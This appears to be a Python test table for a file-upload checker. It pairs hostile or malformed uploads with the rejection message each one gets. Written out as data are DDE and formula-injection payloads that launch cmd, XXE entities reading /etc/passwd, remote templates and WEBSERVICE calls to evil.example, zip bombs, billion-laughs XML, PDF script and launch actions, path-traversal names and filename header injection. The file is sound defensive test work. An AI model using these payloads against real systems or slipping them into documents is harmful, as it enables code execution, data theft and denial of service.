"""Hostile and odd uploads, each with the sentence it gets: the one table to read about them."""

import zipfile
from collections.abc import Callable
from typing import NamedTuple

import pikepdf

from fundflow.files.checking import FORMULA
from fundflow.files.office import BOMB, INSIDE
from fundflow.files.parts import DAMAGED, FIELD, LINKED, LOCKED, MACROS
from tests.files import samples as s
from tests.files.samples import MEGABYTE, csv, docx, pdf, relations, xlsx, zipped

KINDS = "Choose a PDF, Word (.docx), Excel (.xlsx), CSV, OpenDocument (.odt or .ods), JPEG or PNG file"
HIDDEN = "The PDF has another file hidden in it"
EXTERNAL = "word/_rels/settings.xml.rels"
CONNECTIONS = "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"


class Bad(NamedTuple):
    """A file that is refused: what it is, its name, its content, a part of the sentence."""

    what: str
    name: str
    data: Callable[[], bytes]
    says: str


def _(what: str, name: str, data: bytes | Callable[[], bytes], says: str) -> Bad:
    return Bad(what, name, data if callable(data) else lambda: data, says)


TABLE = (
    # what it is not
    _("nothing at all", "plan.pdf", b"", "The file is empty"),
    _(
        "10 MB and a byte",
        "plan.pdf",
        lambda: pdf(b" " * (10 * MEGABYTE - len(pdf()) + 1)),
        "larger than 10 MB",
    ),
    _("a picture called a PDF", "plan.pdf", s.PNG, "ends in “.pdf”, but it is a PNG picture"),
    _("a program called a PDF", "plan.pdf", s.EXE, "ends in “.pdf”, but it is not a PDF"),
    _("a web page called a PDF", "plan.pdf", s.HTML, "ends in “.pdf”, but it is not a PDF"),
    _("a PDF called a Word document", "plan.docx", pdf, "ends in “.docx”, but it is a PDF"),
    _("an Excel workbook called a Word document", "plan.docx", xlsx, "but it is an Excel workbook"),
    _("a Word document called an Excel workbook", "plan.xlsx", docx, "but it is a Word document"),
    _("a CSV file called an Excel workbook", "plan.xlsx", csv, "but it is a CSV file"),
    _("a plain zip called a Word document", "plan.docx", lambda: zipped({"a": b"a"}), "not a Word document"),
    _("a drawing (SVG)", "logo.svg", s.SVG, "ends in “.svg” can’t be attached. " + KINDS),
    _("a web page", "page.html", s.HTML, "ends in “.html” can’t be attached"),
    _("a zip", "all.zip", lambda: zipped({"a.pdf": pdf()}), "ends in “.zip” can’t be attached"),
    # CSV
    _("a web page called a CSV", "data.csv", s.HTML, "is not a CSV file"),
    _("a web page called a CSV, in UTF-16", "data.csv", s.HTML.decode().encode("utf-16"), "not a CSV file"),
    _("a drawing called a CSV", "data.csv", s.SVG, "is not a CSV file"),
    _("a script after a few good rows", "data.csv", csv("a,b\n1,2\n3,<script>x</script>\n"), "is not a CSV"),
    _("XML called a CSV", "data.csv", b"<?xml version='1.0'?>\n<a>1,2</a>\n<b>3,4</b>", "is not a CSV file"),
    _("a CSV with a NUL", "data.csv", csv("a,b\n1,\0\n"), "is not a CSV file"),
    _("bytes that are no text", "data.csv", bytes(range(128, 256)) * 4, "is not a CSV file"),
    _("prose called a CSV", "data.csv", b"We need the money.\nThank you.\n", "is not a CSV file"),
    _("a single row", "data.csv", b"school,pupils\n", "is not a CSV file"),
    _("a CSV with an endless cell", "data.csv", csv(f"a,b\n1,{'x' * 200_000}\n"), "is not a CSV"),
    # PDF
    _("half a PDF", "plan.pdf", pdf()[:40], "damaged or incomplete"),
    _("a PDF that is also a zip", "plan.pdf", lambda: pdf() + docx(), HIDDEN),
    _("a PDF with a zip inside", "plan.pdf", lambda: pdf(zipped({"a.exe": s.EXE})), HIDDEN),
    _("a PDF that is also a web page", "plan.pdf", b"%PDF-1.7 " + s.HTML + pdf(), HIDDEN),
    _("a PDF with a long tail", "plan.pdf", pdf(after=b"x" * 2000), HIDDEN),
    _("a PDF with a script", "plan.pdf", pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), "holds a program"),
    _(
        "a PDF with a script, its name escaped",
        "plan.pdf",
        pdf(b"<</S/J#61vaScript/JS(1)>>"),
        "holds a program",
    ),
    _("a PDF with a script, all escaped", "plan.pdf", pdf(b"<</S/#4a#61#76#61#53cript>>"), "holds a program"),
    _(
        "a PDF that starts a program, escaped",
        "plan.pdf",
        pdf(b"<</S/L#61unch/F(a.exe)>>"),
        "holds a program",
    ),
    _(
        "a PDF with a script packed away",
        "plan.pdf",
        lambda: s.packed({"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")}),
        "holds a program",
    ),
    _(
        "a script packed away, deep inside",
        "plan.pdf",
        lambda: s.packed({"/AA": pikepdf.Array([1, pikepdf.Array([pikepdf.Dictionary(JS="x")])])}),
        "holds a program",
    ),
    _(
        "a form of Adobe’s own with scripts, packed away",
        "plan.pdf",
        lambda: s.packed({"/AcroForm": pikepdf.Dictionary(XFA=pikepdf.Array([]))}),
        "holds a program",
    ),
    _(
        "a PDF with a file packed away",
        "plan.pdf",
        lambda: s.packed({"/Names": pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary())}),
        "or another file",
    ),
    _(
        "a script packed away and encrypted with no password",
        "plan.pdf",
        lambda: s.packed(
            {"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name.JavaScript)},
            encryption=pikepdf.Encryption(owner="x", user=""),
        ),
        "holds a program",
    ),
    _(
        "a PDF with a password",
        "plan.pdf",
        lambda: s.packed(encryption=pikepdf.Encryption(owner="x", user="y")),
        "protected by a password",
    ),
    _("a PDF of no objects", "plan.pdf", b"%PDF-1.7\n/ObjStm\nstartxref\n9\n%%EOF\n", "damaged"),
    _("a PDF that swells", "plan.pdf", lambda: s.swollen(1_100), "damaged"),
    _("a PDF with a file in it", "plan.pdf", pdf(b"<</Type/EmbeddedFile>>"), "or another file"),
    # Word and Excel
    _("a Word document with macros", "plan.docm", s.docm, "ends in “.docm” can’t be attached"),
    _("macros, renamed", "plan.docx", s.docm, MACROS),
    _("macros in a plain document", "plan.docx", lambda: docx({"word/vbaProject.bin": b"x"}), MACROS),
    _("a macro sheet of Excel 4", "plan.xlsx", lambda: xlsx({"xl/macrosheets/sheet1.xml": b"<x/>"}), MACROS),
    _("an ActiveX control", "plan.docx", lambda: docx({"word/activeX/activeX1.xml": b"<x/>"}), MACROS),
    _("a document with a password", "plan.docx", s.OLE, "protected by a password"),
    _("an old Word document", "plan.doc", s.OLE, "ends in “.doc” can’t be attached"),
    _("an encrypted zip", "plan.docx", lambda: s.locked(docx()), LOCKED),
    _("half a document", "plan.docx", lambda: docx()[:200], DAMAGED),
    _(
        "a document with a spoilt part",
        "plan.docx",
        lambda: docx(method=zipfile.ZIP_STORED).replace(b"<w/>", b"<W/>"),
        DAMAGED,
    ),
    _("an odd compression", "plan.docx", lambda: docx(method=zipfile.ZIP_LZMA), DAMAGED),
    _("a zip bomb", "plan.docx", lambda: s.bomb(40 * MEGABYTE), BOMB),
    _("a larger zip bomb", "plan.docx", lambda: s.bomb(200 * MEGABYTE), BOMB),
    _("146 KB that become 147 MB", "plan.docx", lambda: s.bomb(147 * MEGABYTE), BOMB),
    _(
        "a sheet of 12 MB from 12 KB",
        "plan.xlsx",
        lambda: xlsx({"xl/a.xml": b"<a>" + b" " * 12 * MEGABYTE}),
        BOMB,
    ),
    _("a zip bomb that lies", "plan.docx", lambda: s.lying(s.bomb(40 * MEGABYTE)), DAMAGED),
    _("a bomb of many parts", "plan.docx", lambda: docx({f"w/{n}.xml": b"" for n in range(4000)}), BOMB),
    _(
        "a bomb in a bomb",
        "plan.docx",
        lambda: docx({"word/embeddings/a.xlsx": xlsx({"xl/b.bin": b"\0" * 40 * MEGABYTE})}),
        BOMB,
    ),
    _("a zip in a document", "plan.docx", lambda: docx({"word/media/a.zip": zipped({"a": b"a"})}), INSIDE),
    _(
        "nested three deep",
        "plan.docx",
        lambda: docx({"word/embeddings/a.xlsx": xlsx({"xl/embeddings/b.docx": docx()})}),
        INSIDE,
    ),
    _(
        "macros in a workbook in a document",
        "plan.docx",
        lambda: docx({"word/embeddings/a.xlsx": xlsx({"xl/vbaProject.bin": b"x"})}),
        MACROS,
    ),
    _("a program in a document", "plan.docx", lambda: docx({"word/media/a.bin": s.EXE}), INSIDE),
    _("an object in a document", "plan.docx", lambda: docx({"word/oleObject1.bin": s.OLE}), INSIDE),
    _("a document with a tail", "plan.docx", lambda: docx() + b"<script>alert(1)</script>", INSIDE),
    _("a document that is also a PDF", "plan.docx", lambda: _polyglot(), INSIDE),
    _("a part that climbs out", "plan.docx", lambda: docx({"../../etc/cron.d/x": b"x"}), DAMAGED),
    _("a part with a drive", "plan.docx", lambda: docx({"C:/x.xml": b"<x/>"}), DAMAGED),
    _("one name twice", "plan.docx", lambda: s.doubled("word/a.xml"), DAMAGED),
    _(
        "XML with entities",
        "plan.docx",
        lambda: docx({"a.rels": b"<!DOCTYPE a [<!ENTITY b ''>]><a/>"}),
        DAMAGED,
    ),
    _("a billion laughs", "plan.docx", lambda: docx({"a.rels": s.laughs()}), DAMAGED),
    _(
        "a billion laughs among the types",
        "plan.docx",
        lambda: zipped({"[Content_Types].xml": s.laughs(), "word/document.xml": b"<w/>"}),
        DAMAGED,
    ),
    _("one entity, many times", "plan.xlsx", lambda: xlsx({"a.rels": s.blow_up()}), DAMAGED),
    _(
        "a file of ours as an entity",
        "plan.docx",
        lambda: docx({"a.rels": s.external("file:///etc/passwd")}),
        DAMAGED,
    ),
    _(
        "an address as an entity",
        "plan.xlsx",
        lambda: xlsx({"a.rels": s.external("https://evil.example/x")}),
        DAMAGED,
    ),
    _(
        "a document type from elsewhere",
        "plan.docx",
        lambda: docx({"a.rels": b'<!DOCTYPE a SYSTEM "https://evil.example/a.dtd"><a/>'}),
        DAMAGED,
    ),
    _(
        "entities in UTF-16",
        "plan.docx",
        lambda: docx({"a.rels": s.external("file:///etc/passwd").decode().encode("utf-16")}),
        DAMAGED,
    ),
    _(
        "a template from elsewhere",
        "plan.docx",
        lambda: docx({EXTERNAL: relations("attachedTemplate", "https://evil.example/t.dotm")}),
        LINKED,
    ),
    _(
        "a template on a share",
        "plan.docx",
        lambda: docx({EXTERNAL: relations("attachedTemplate", "file:///\\\\evil\\t.dotm")}),
        LINKED,
    ),
    _(
        "a list of addresses on a share",
        "plan.docx",
        lambda: docx({EXTERNAL: relations("mailMergeSource", "\\\\evil\\list.xlsx")}),
        LINKED,
    ),
    _(
        "an object from elsewhere",
        "plan.docx",
        lambda: docx(
            {EXTERNAL: relations("oleObject", "mhtml:https://evil.example/x!x-usc:https://evil.example/x")}
        ),
        LINKED,
    ),
    _(
        "a picture that tells who reads",
        "plan.docx",
        lambda: docx({EXTERNAL: relations("image", "\\\\evil\\x.png")}),
        LINKED,
    ),
    # fields, links and formulas
    _(
        "a field that starts a program",
        "plan.docx",
        lambda: s.written(s.field("DDEAUTO c:\\\\cmd.exe")),
        FIELD,
    ),
    _(
        "the same, split over runs",
        "plan.docx",
        lambda: s.written(s.field(" D", "DE", "AUTO ", "cmd")),
        FIELD,
    ),
    _("the same, small letters and a quote", "plan.docx", lambda: s.written(s.field('"ddeauto" cmd')), FIELD),
    _(
        "the same, simple",
        "plan.docx",
        lambda: s.written('<w:fldSimple w:instr="DDE cmd /c"><w:r/></w:fldSimple>'),
        FIELD,
    ),
    _(
        "the same, in a footer of another name",
        "plan.docx",
        lambda: s.written(s.field("DDEAUTO cmd"), part="word/footer.foo"),
        FIELD,
    ),
    _(
        "a field whose name another field writes",
        "plan.docx",
        lambda: s.written(s.field(s.field("QUOTE 68 68 69 65 85 84 79"), " cmd")),
        FIELD,
    ),
    _(
        "a field in the result of another",
        "plan.docx",
        lambda: s.written(s.field("PAGE", result=f"</w:t></w:r>{s.field('DDE cmd')}<w:r><w:t>")),
        FIELD,
    ),
    _(
        "a text fetched from elsewhere",
        "plan.docx",
        lambda: s.written(s.field("INCLUDETEXT http://e/x")),
        FIELD,
    ),
    _(
        "a field that was deleted",
        "plan.docx",
        lambda: s.written("<w:delInstrText>DDE c</w:delInstrText>"),
        FIELD,
    ),
    _("a formula that starts a program", "plan.xlsx", lambda: s.sheet("cmd|'/c calc'!A1"), FIELD),
    _("the same after a sum", "plan.xlsx", lambda: s.sheet("1+1-MSEXCEL|'..\\cmd'!A1"), FIELD),
    _(
        "the same, spelled in numbers",
        "plan.xlsx",
        lambda: s.sheet("c&#109;d|<![CDATA['/c calc']]>!A1"),
        FIELD,
    ),
    _("a formula that fetches", "plan.xlsx", lambda: s.sheet('WEBSERVICE("https://evil.example/")'), FIELD),
    _(
        "a name that starts a program",
        "plan.xlsx",
        lambda: xlsx({"xl/workbook.xml": b"<x><definedName name='a'>cmd|'/c x'!A1</definedName></x>"}),
        FIELD,
    ),
    _(
        "a link to a program",
        "plan.xlsx",
        lambda: xlsx(
            {"xl/externalLinks/externalLink1.xml": b'<x><ddeLink ddeService="cmd" ddeTopic="/c"/></x>'}
        ),
        FIELD,
    ),
    _(
        "a workbook on a share",
        "plan.xlsx",
        lambda: xlsx(
            {
                "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                    "externalLinkPath", "\\\\evil\\a.xlsx"
                )
            }
        ),
        LINKED,
    ),
    _(
        "a connection to a database",
        "plan.xlsx",
        lambda: zipped(
            {
                "[Content_Types].xml": s.types(
                    s.EXCEL,
                    "xl/workbook.xml",
                    f'<Override PartName="/xl/connections.xml" ContentType="{CONNECTIONS}"/>',
                ),
                "xl/workbook.xml": b"<x/>",
                "xl/connections.xml": b"<x/>",
            }
        ),
        LINKED,
    ),
    _(
        "a formula in a workbook in a document",
        "plan.docx",
        lambda: docx({"word/embeddings/a.xlsx": s.sheet("cmd|'/c calc'!A1")}),
        FIELD,
    ),
    *(
        _(
            f"a document type in {part}",
            "plan.docx",
            lambda part=part: docx({part: b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'}),
            DAMAGED,
        )
        for part in ("word/document.xml", "word/styles.xml", "customXml/item1.xml", "word/theme.bin")
    ),
    _("a CSV that starts a program", "data.csv", csv("a,b\n1,=cmd|'/c calc'!A1\n"), FORMULA),
    _("the same after spaces, in quotes", "data.csv", csv("a;b\n1;\" =cmd|'/c calc'!A1\"\n"), FORMULA),
    _("the same with a plus", "data.csv", csv("a\tb\n1\t+1-cmd|'/c calc'!A1\n"), FORMULA),
    _("a CSV that fetches", "data.csv", csv('a,b\n1,"=WEBSERVICE(""https://evil.example/"")"\n'), FORMULA),
    # OpenDocument
    _("an OpenDocument text called a Word document", "plan.docx", s.odt, "but it is an OpenDocument text"),
    _("a spreadsheet called a text", "plan.odt", s.ods, "but it is an OpenDocument spreadsheet"),
    _("a template", "plan.odt", lambda: s.odt(kind=f"{s.OPEN_TEXT}-template"), "is not an OpenDocument text"),
    _("a Word document that is also OpenDocument", "plan.docx", lambda: docx({"mimetype": b"x"}), INSIDE),
    _("an OpenDocument file without a list", "plan.odt", lambda: zipped({"mimetype": b"x"}), DAMAGED),
    _("half an OpenDocument file", "plan.odt", lambda: s.odt()[:200], DAMAGED),
    _("an OpenDocument bomb", "plan.odt", lambda: s.odt(more={"Pictures/a": b"\0" * 40 * MEGABYTE}), BOMB),
    _(
        "OpenDocument with a password",
        "plan.odt",
        lambda: s.odt(manifest="<manifest:encryption-data/>"),
        LOCKED,
    ),
    *(
        _(f"a program in {part}", "plan.odt", lambda part=part: s.odt(more={part: b"<a/>"}), MACROS)
        for part in (
            "Basic/Standard/Module1.xml",
            "Scripts/python/a.py",
            "Dialogs/a.xml",
            "Object 1/Basic/a.xml",
        )
    ),
    *(
        _(what, "plan.odt", lambda inside=inside: s.odt(inside), says)
        for what, inside, says in (
            (
                "something that runs as the file opens",
                '<office:event-listeners><script:event-listener xlink:href="x"/></office:event-listeners>',
                MACROS,
            ),
            ("the same by its name", '<script:event-listener script:macro-name="a.Main"/>', MACROS),
            ("a script in the text", "<text:script>1</text:script>", MACROS),
            ("a field that runs a macro", '<text:execute-macro text:name="a"/>', MACROS),
            ("a link to a macro", '<text:a xlink:href="vnd.sun.star.script:a?language=Basic"/>', MACROS),
            ("the same, escaped", '<text:a xlink:href=" %6dacro:///a"/>', MACROS),
            ("DDE in a text", '<text:dde-connection-decl office:dde-application="cmd"/>', FIELD),
            ("a picture from elsewhere", '<draw:image xlink:href="https://evil.example/x.png"/>', LINKED),
            ("a picture on a share", '<draw:image xlink:href="//evil/x.png"/>', LINKED),
            ("the same, escaped", '<draw:image xlink:href="%5c%5cevil/x.png"/>', LINKED),
            ("a picture from beside the file", '<draw:image xlink:href="../x.png"/>', LINKED),
            ("a part from elsewhere", '<text:section-source xlink:href="file:///etc/passwd"/>', LINKED),
            ("a page in the page", '<draw:floating-frame xlink:href="http://evil.example/"/>', LINKED),
            ("a file that fetches itself anew", "<meta:auto-reload/>", FIELD),
            ("an object from elsewhere", '<draw:object xlink:href="../../x.odt"/>', LINKED),
            ("spoilt content", "<![CDATA[", DAMAGED),
        )
    ),
    *(
        _(f"a formula: {formula}", "plan.ods", lambda formula=formula: s.ods(formula), FIELD)
        for formula in (
            "of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)",
            "of:=WEBSERVICE(&quot;https://evil.example/&quot;)",
            "of:=cmd|'/c calc'!A1",
            "of:='file:///C:/x.ods'#$Sheet1.A1",
        )
    ),
    _("an object in OpenDocument", "plan.odt", lambda: s.odt(more={"Object 1": s.OLE}), INSIDE),
    _("a document type in OpenDocument", "plan.odt", lambda: s.odt(more={"styles.xml": s.laughs()}), DAMAGED),
    # photographs
    _("half a JPEG", "a.jpg", lambda: s.photograph(size=(400, 400))[:-200], "The picture is damaged"),
    _("half a PNG", "a.png", lambda: s.photograph("PNG", size=(400, 400))[:-60], "The picture is damaged"),
    _("a JPEG’s first bytes", "a.jpg", b"\xff\xd8\xff" + s.HTML, "The picture is damaged"),
    _("a JPEG called a PNG", "a.png", s.photograph, "ends in “.png”, but it is a JPEG picture"),
    _("a web page called a JPEG", "a.jpeg", s.HTML, "ends in “.jpeg”, but it is not a JPEG picture"),
    _(
        "a PNG of 10,000 million pixels",
        "a.png",
        lambda: s.png_claiming(100_000, 100_000),
        "60 million pixels",
    ),
    _("a PNG of 64 million pixels", "a.png", lambda: s.png_claiming(8_000, 8_000), "60 million pixels"),
    _("a photograph of another kind", "a.heic", s.photograph, "ends in “.heic” can’t be attached"),
    # names
    _("two endings", "plan.pdf.exe", pdf, "ends in “.exe” can’t be attached"),
    _("two endings, the good one last", "plan.exe.pdf", pdf, "two endings, “.exe” and “.pdf”"),
    _("two endings, the content that of the first", "plan.docx.pdf", docx, "but it is a Word document"),
    _("right-to-left", "plan\u202efdp.exe", pdf, "ends in “.exe” can’t be attached"),
    _("right-to-left, hiding a program", "plan\u202efdp.exe.pdf", pdf, "two endings"),
    _("a NUL before the good ending", "plan.exe\0.pdf", pdf, "two endings"),
    _("no ending", "plan", pdf, "has no ending"),
    _("an ending alone", ".pdf", pdf, "has no ending"),
    _("dots alone", "...", pdf, "has no ending"),
    _("nothing but marks", "\u202e\u200b.pdf", pdf, "has no ending"),
)


# Odd, and harmless: name, what it is kept as.
ODD_NAMES = (
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("C:\\Users\\sam\\Plan.PDF", "Plan.pdf"),
    ("/plan.pdf", "plan.pdf"),
    ("plan.pdf/", "plan.pdf"),
    ("plan\u202efdp.pdf", "planfdp.pdf"),
    ("pl\0an\r\nSet-Cookie: x.pdf", "planSet-Cookie_ x.pdf"),
    ("\u200bplan\ufeff .pdf", "plan.pdf"),
    ("CON.pdf", "_CON.pdf"),
    ("nul.1.pdf", "_nul.1.pdf"),
    ("..htaccess.pdf", "htaccess.pdf"),
    ("plan.pdf. . ", "plan.pdf"),
    ('<a href="x">&b|c?*.pdf', "_a href=_x__&b_c__.pdf"),
    ("Plan 3.1 (final).pdf", "Plan 3.1 (final).pdf"),
    ("Plan.doc.pdf", "Plan.doc.pdf"),
    ("Budget 2027.xls.pdf", "Budget 2027.xls.pdf"),
    ("Our school.html.pdf", "Our school.html.pdf"),
    ("Receipt amazon.com.pdf", "Receipt amazon.com.pdf"),
    ("План école 計画.pdf", "План école 計画.pdf"),
    ("e\u0301cole.pdf", "école.pdf"),
    ("x" * 300 + ".pdf", "x" * 196 + ".pdf"),
)


def _polyglot() -> bytes:
    """A Word document whose first part, stored as it is, begins with a PDF's first line."""
    return zipped(
        {
            "%PDF-1.7": b"",
            "[Content_Types].xml": s.types(s.WORD, "word/document.xml"),
            "word/document.xml": b"<w/>",
        }
    )
